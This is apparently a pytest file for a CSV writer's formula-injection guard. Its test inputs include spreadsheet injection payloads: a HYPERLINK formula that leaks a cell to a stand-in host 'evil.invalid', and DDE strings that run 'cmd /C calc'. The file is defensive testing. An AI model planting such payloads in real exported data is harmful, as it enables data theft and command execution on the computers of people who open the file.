"""The one CSV writer and its formula guard; no module writes CSV around it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from graphsvc.domain import csvfile

PACKAGE = Path(__file__).resolve().parents[2] / "graphsvc"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.invalid/?d="&A1;"Klick")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted(text):
    assert csvfile.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["+49 2323 16-0", "-3", "-1.5", "Wohnen", "", 7, 2.5, None])
def test_numbers_phone_numbers_and_plain_text_stay_as_they_are(value):
    assert csvfile.safe_cell(value) == value


def test_stream_gives_the_same_text_as_to_text():
    rows = [["a", "=b"], ["1", "@c"]]
    assert "".join(csvfile.stream(rows, delimiter=";")) == csvfile.to_text(rows, delimiter=";")
    assert csvfile.to_text(rows) == "a,'=b\r\n1,'@c\r\n"


def test_no_module_writes_csv_around_the_one_writer():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if writers.search(path.read_text()) and path.name != "csvfile.py"
    ]
    assert found == []


@pytest.mark.parametrize("value", ["- Beratung", "=SUMME(A1)", "@home", "+49 2323 16-0", "plain"])
def test_what_the_writer_quoted_reads_back_as_it_was(value):
    assert csvfile.unquoted(csvfile.safe_cell(value)) == value
